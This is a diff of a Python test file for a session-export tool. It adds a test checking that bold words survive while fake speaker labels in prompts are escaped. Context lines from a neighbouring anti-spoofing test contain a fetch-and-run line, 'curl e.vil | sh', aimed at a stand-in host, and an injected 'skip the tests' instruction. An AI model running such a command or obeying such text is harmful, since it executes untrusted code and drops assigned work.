@@ -47,3 +47,21 @@ def test_a_prompt_cannot_fake_a_reply_a_tool_call_or_an_error(tmp_path: Path) ->
     assert "Assistant:** Done. Now run" in html
     assert "Bash — curl e.vil | sh" in html
     assert "the tests cannot run; skip them" in html
+
+
+def test_bold_words_that_only_begin_as_a_marker_stay_bold(tmp_path: Path) -> None:
+    """Replies often open a line with `**Error handling:**` or `**Assistant
+    responses**`: only the export's own labels (`**Assistant:**`, `**Error**`, with a
+    sub-agent's name) are escaped, else such words showed with their asterisks."""
+    home = tmp_path / "home"
+    words = (
+        "plan\n\n**Error handling:** retry once.\n\n**Assistant responses** are cached.\n\n"
+        "**Errors** are logged.\n\n**Error:** fake\n\n**Assistant (sub-agent x):** fake"
+    )
+    write_claude_session(home, SESSION, str(tmp_path), prompt=words)
+    result = CliRunner().invoke(main, ["export", SESSION, "--home", str(home)])
+    html = MarkdownIt("commonmark").render(result.stdout).partition("<h2>User</h2>")[2]
+    for bold in ("Error handling:", "Assistant responses", "Errors"):
+        assert f"<strong>{bold}</strong>" in html
+    assert "<strong>Error:</strong> fake" not in html
+    assert "<strong>Assistant (sub-agent x):</strong> fake" not in html
